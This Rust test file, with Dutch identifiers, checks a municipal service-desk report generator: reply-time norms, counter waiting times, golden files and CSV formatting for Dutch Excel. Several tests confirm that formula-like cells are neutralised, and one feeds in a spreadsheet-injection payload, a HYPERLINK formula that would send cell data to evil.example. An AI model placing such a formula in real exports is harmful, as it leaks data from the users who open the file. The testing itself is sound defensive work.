use super::*;
use chrono::TimeZone;

fn rapport(per: Per) -> Rapport {
    let dir = tempfile::tempdir().unwrap();
    let pad = dir.path().join("demo.db");
    let vandaag = NaiveDate::from_ymd_opt(2026, 11, 23).unwrap();
    crate::demo::klein(&pad, 11, 10, vandaag);
    let store = crate::store::Store::open(&pad, uuid::Uuid::nil()).unwrap();
    let nu = Local
        .with_ymd_and_hms(2026, 11, 23, 12, 0, 0)
        .unwrap()
        .with_timezone(&Utc);
    maak(
        store.conn(),
        NaiveDate::from_ymd_opt(2026, 11, 13).unwrap(),
        vandaag,
        per,
        &Normen::default(),
        nu,
    )
    .unwrap()
}

#[test]
fn written_channels_count_werkdagen_from_arrival_and_the_counter_its_waits() {
    use crate::domain::contact::Contactmoment;
    let dir = tempfile::tempdir().unwrap();
    let desk = uuid::Uuid::now_v7();
    let mut store = crate::store::Store::open(&dir.path().join("l.db"), desk).unwrap();
    let om = |d: u32, u: u32, m: u32| {
        Local
            .with_ymd_and_hms(2026, 11, d, u, m, 0)
            .unwrap()
            .with_timezone(&Utc)
    };
    let dag = |d: u32| NaiveDate::from_ymd_opt(2026, 11, d);
    // (kanaal, came in, answered): e-mail Mon 16 → Wed 18 is 2 werkdagen (norm 3: in
    // time), e-mail Mon 9 → Mon 16 is 5 (late), post Tue 10 → Tue 17 is 5 (norm 5: in time);
    // a telephone contact has no arrival day and is not judged here.
    for (kanaal, ontvangen, beantwoord) in [
        (Kanaal::Email, dag(16), om(18, 10, 0)),
        (Kanaal::Email, dag(9), om(16, 11, 0)),
        (Kanaal::Post, dag(10), om(17, 9, 0)),
        (Kanaal::Telefoon, None, om(17, 9, 30)),
    ] {
        let mut cm = Contactmoment {
            meta: crate::domain::RecordMeta::new(beantwoord, desk),
            plaatsgevonden_op: beantwoord,
            kanaal,
            onderwerp: "WOZ".into(),
            inhoud: String::new(),
            notitie: String::new(),
            afhandeling: "afgehandeld".into(),
            partij_id: None,
            zaak_id: None,
            medewerker_id: None,
            afdeling_id: None,
            duur_seconden: 60,
            nawerk_seconden: 0,
            eerstelijns_afgehandeld: true,
            bronnen: Vec::new(),
            gesprek_id: None,
            ontvangen_op: ontvangen,
        };
        store.save(&mut cm, beantwoord).unwrap();
    }
    // The counter: called after 5 and after 20 minutes, one still waiting.
    for (i, (aankomst, oproep)) in [
        (om(17, 9, 0), Some(om(17, 9, 5))),
        (om(17, 10, 0), Some(om(17, 10, 20))),
        (om(17, 11, 0), None),
    ]
    .into_iter()
    .enumerate()
    {
        store
            .conn()
            .execute(
                "INSERT INTO bezoek (id, created_at, updated_at, desk_id, dag, locatie, nummer,
                   volgnummer, dienst, aangekomen_op, opgeroepen_op, status)
                 VALUES (?1, ?2, ?2, 'x', '2026-11-17', 'Stadskantoor', ?3, ?4, 'Paspoort',
                         ?2, ?5, 'wachtend')",
                params![
                    uuid::Uuid::now_v7().to_string(),
                    ts(aankomst),
                    format!("A{i}"),
                    i as i64,
                    oproep.map(ts)
                ],
            )
            .unwrap();
    }
    let r = maak(
        store.conn(),
        NaiveDate::from_ymd_opt(2026, 11, 1).unwrap(),
        NaiveDate::from_ymd_opt(2026, 11, 30).unwrap(),
        Per::Kanaal,
        &Normen::default(),
        om(30, 12, 0),
    )
    .unwrap();
    let email = Schriftelijk {
        kanaal: "e-mail".into(),
        totaal: 2,
        binnen_norm: 1,
        binnen_norm_pct: 50.0,
        gemiddeld_werkdagen: 3.5,
        norm_werkdagen: 3,
    };
    let post = Schriftelijk {
        kanaal: "post".into(),
        totaal: 1,
        binnen_norm: 1,
        binnen_norm_pct: 100.0,
        gemiddeld_werkdagen: 5.0,
        norm_werkdagen: 5,
    };
    assert_eq!(r.schriftelijk, vec![email, post]);
    assert_eq!(r.balie_opgeroepen, 2);
    assert_eq!(r.balie_binnen_norm, Some(50.0));
    assert!((r.balie_gemiddelde_wachttijd.unwrap() - 750.0).abs() < 0.5);
    let md = markdown(&r);
    assert!(
        md.contains("| e-mail | 2 | 1 | 3 | 3,5 | 50,0 | ✖ |"),
        "{md}"
    );
    assert!(
        md.contains("Binnen 15 min: 1 van 2, 50,0% (norm 95% van de gevallen) ✖"),
        "{md}"
    );
    let c = csv(&r);
    assert!(
        c.contains(
            "schriftelijk;post binnen 5 werkdagen;1;1;100,0;%;95,0;ja;2026-11-01;2026-11-30"
        ),
        "{c}"
    );
    // A stricter e-mail norm from [normen] makes the first one late too.
    let streng = Normen {
        email_werkdagen: 1,
        ..Normen::default()
    };
    let r = maak(
        store.conn(),
        NaiveDate::from_ymd_opt(2026, 11, 1).unwrap(),
        NaiveDate::from_ymd_opt(2026, 11, 30).unwrap(),
        Per::Kanaal,
        &streng,
        om(30, 12, 0),
    )
    .unwrap();
    assert_eq!(r.schriftelijk[0].binnen_norm, 0);
}

/// Compare with the golden file in tests/data/; LOKET_GOLDEN=1 writes it anew.
fn goud(naam: &str, inhoud: &str) {
    let pad = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../tests/data")
        .join(naam);
    if std::env::var_os("LOKET_GOLDEN").is_some() {
        std::fs::write(&pad, inhoud).unwrap();
    }
    let verwacht = std::fs::read_to_string(&pad).unwrap();
    assert_eq!(
        inhoud, verwacht,
        "{naam} differs; LOKET_GOLDEN=1 rewrites it"
    );
}

#[test]
fn the_report_matches_its_golden_files_in_markdown_and_csv() {
    let r = rapport(Per::Kanaal);
    assert!(r.contacten > 0 && !r.verzoeken.is_empty());
    assert_eq!(
        r.groepen.iter().map(|g| g.contacten).sum::<i64>(),
        r.contacten,
        "the groups add up"
    );
    goud("rapport.md", &markdown(&r));
    goud("rapport.csv", &csv(&r));
}

#[test]
fn csv_opens_in_dutch_excel_bom_semicolons_and_decimal_commas() {
    let c = csv(&rapport(Per::Dag));
    assert!(c.starts_with('\u{feff}'));
    let kop = c.trim_start_matches('\u{feff}').lines().next().unwrap();
    assert_eq!(kop.split(';').count(), 10);
    let regel = c
        .lines()
        .find(|l| l.starts_with("contacten_per_dag;2026-11-"))
        .expect("a row per day");
    let pct = regel.split(';').nth(4).unwrap();
    assert!(pct.contains(',') && !pct.contains('.'), "{regel}");
    let json = serde_json::to_value(rapport(Per::Uur)).unwrap();
    assert_eq!(json["per"], "uur");
}

/// A CSV reader as a spreadsheet reads it (RFC 4180 with semicolons): records of fields.
fn lees_csv(tekst: &str) -> Vec<Vec<String>> {
    let mut records = Vec::new();
    let (mut record, mut veld) = (Vec::new(), String::new());
    let mut tekens = tekst.chars().peekable();
    let mut tussen_quotes = false;
    while let Some(c) = tekens.next() {
        match (tussen_quotes, c) {
            (true, '"') if tekens.peek() == Some(&'"') => {
                tekens.next();
                veld.push('"');
            }
            (true, '"') => tussen_quotes = false,
            (true, c) => veld.push(c),
            (false, '"') if veld.is_empty() => tussen_quotes = true,
            (false, ';') => record.push(std::mem::take(&mut veld)),
            (false, '\n') => {
                record.push(std::mem::take(&mut veld));
                records.push(std::mem::take(&mut record));
            }
            (false, c) => veld.push(c),
        }
    }
    if !veld.is_empty() || !record.is_empty() {
        record.push(veld);
        records.push(record);
    }
    records
}

#[test]
fn a_cell_a_spreadsheet_would_run_as_a_formula_stays_text() {
    for (cel, verwacht) in [
        ("=HYPERLINK(\"http://x\")", "'=HYPERLINK(\"http://x\")"),
        ("+31 6 1234", "'+31 6 1234"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tverstopt", "'\tverstopt"),
        ("\r=1+1", "'\r=1+1"),
        ("Paspoort", "Paspoort"),
        ("a=b", "a=b"),
    ] {
        let regel = format!("x;{};y\n", csv_veld(cel));
        assert_eq!(
            lees_csv(&regel),
            vec![vec!["x".to_string(), verwacht.to_string(), "y".to_string()]],
            "{cel:?} as {regel:?}"
        );
    }
}

proptest::proptest! {
    /// Any text survives the CSV: read back it is the same text, with one quote in front
    /// exactly when it starts like a formula.
    #[test]
    fn every_text_survives_the_csv_and_only_formulas_get_a_quote(tekst in "\\PC*|[=+\\-@\t\r;\"\n a-z]{0,12}") {
        let regel = format!("a;{};b\n", csv_veld(&tekst));
        let gelezen = lees_csv(&regel);
        proptest::prop_assert_eq!(gelezen.len(), 1, "{:?}", regel);
        proptest::prop_assert_eq!(gelezen[0].len(), 3, "{:?}", regel);
        let cel = &gelezen[0][1];
        let formule = tekst.starts_with(['=', '+', '-', '@', '\t', '\r']);
        if formule {
            proptest::prop_assert_eq!(cel.strip_prefix('\''), Some(tekst.as_str()));
        } else {
            proptest::prop_assert_eq!(cel, &tekst);
        }
        proptest::prop_assert!(!cel.starts_with(['=', '+', '-', '@', '\t', '\r']));
    }
}

#[test]
fn the_csv_carries_its_period_counts_beside_percentages_and_no_formulas() {
    use crate::domain::contact::Contactmoment;
    let dir = tempfile::tempdir().unwrap();
    let desk = uuid::Uuid::now_v7();
    let mut store = crate::store::Store::open(&dir.path().join("l.db"), desk).unwrap();
    let om = |d: u32, u: u32| {
        Local
            .with_ymd_and_hms(2026, 11, d, u, 0, 0)
            .unwrap()
            .with_timezone(&Utc)
    };
    let kwaad = "=HYPERLINK(\"http://evil.example/?x=\"&A1;\"klik\")";
    for (i, (onderwerp, eerste)) in [(kwaad, true), (kwaad, false), ("Paspoort", true)]
        .into_iter()
        .enumerate()
    {
        let t = om(17, 9 + i as u32);
        let mut cm = Contactmoment {
            meta: crate::domain::RecordMeta::new(t, desk),
            plaatsgevonden_op: t,
            kanaal: Kanaal::Balie,
            onderwerp: onderwerp.into(),
            inhoud: String::new(),
            notitie: String::new(),
            afhandeling: "afgehandeld".into(),
            partij_id: None,
            zaak_id: None,
            medewerker_id: None,
            afdeling_id: None,
            duur_seconden: 60,
            nawerk_seconden: 0,
            eerstelijns_afgehandeld: eerste,
            bronnen: Vec::new(),
            gesprek_id: None,
            ontvangen_op: None,
        };
        store.save(&mut cm, t).unwrap();
    }
    let r = maak(
        store.conn(),
        NaiveDate::from_ymd_opt(2026, 11, 16).unwrap(),
        NaiveDate::from_ymd_opt(2026, 11, 20).unwrap(),
        Per::Onderwerp,
        &Normen::default(),
        om(30, 12),
    )
    .unwrap();
    let c = csv(&r);
    let rijen = lees_csv(c.trim_start_matches('\u{feff}'));
    let kop = &rijen[0];
    assert_eq!(kop.join(";"), CSV_KOP);
    let kolom = |naam: &str| kop.iter().position(|k| k == naam).unwrap();
    for rij in &rijen[1..] {
        assert_eq!(rij.len(), kop.len(), "{rij:?}");
        assert_eq!(
            (rij[kolom("van")].as_str(), rij[kolom("tot")].as_str()),
            ("2026-11-16", "2026-11-20"),
            "every row has the period: {rij:?}"
        );
        assert!(
            rij.iter()
                .all(|c| !c.starts_with(['=', '+', '-', '@', '\t', '\r'])),
            "{rij:?}"
        );
    }
    // The onderwerp comes out as text, whole.
    let groep = rijen
        .iter()
        .find(|r| r[0] == "contacten_per_onderwerp" && r[1].contains("HYPERLINK"))
        .expect("the group row");
    assert_eq!(groep[1], format!("'{kwaad}"));
    // Counts beside the percentage: 1 of 2 settled in the first line, 50%.
    assert_eq!(
        (
            groep[kolom("aantal")].as_str(),
            groep[kolom("waarvan")].as_str(),
            groep[kolom("waarde")].as_str(),
            groep[kolom("eenheid")].as_str()
        ),
        ("2", "1", "50,0", "%")
    );
    let totaal = rijen.iter().find(|r| r[0] == "eerste_lijn").unwrap();
    assert_eq!(
        (&totaal[kolom("aantal")][..], &totaal[kolom("waarvan")][..]),
        ("3", "2")
    );
    let top = rijen
        .iter()
        .find(|r| r[0] == "onderwerpen" && r[1].contains("HYPERLINK"))
        .unwrap();
    assert_eq!(top[1], format!("'{kwaad}"));
    // The counter: nobody called, so no percentage and no verdict, but the count 0.
    let balie = rijen
        .iter()
        .find(|r| r[0] == "balie" && r[1] == "binnen_15_min")
        .unwrap();
    assert_eq!(
        (
            &balie[kolom("aantal")][..],
            &balie[kolom("waarde")][..],
            &balie[kolom("binnen_norm")][..]
        ),
        ("0", "", "")
    );
}
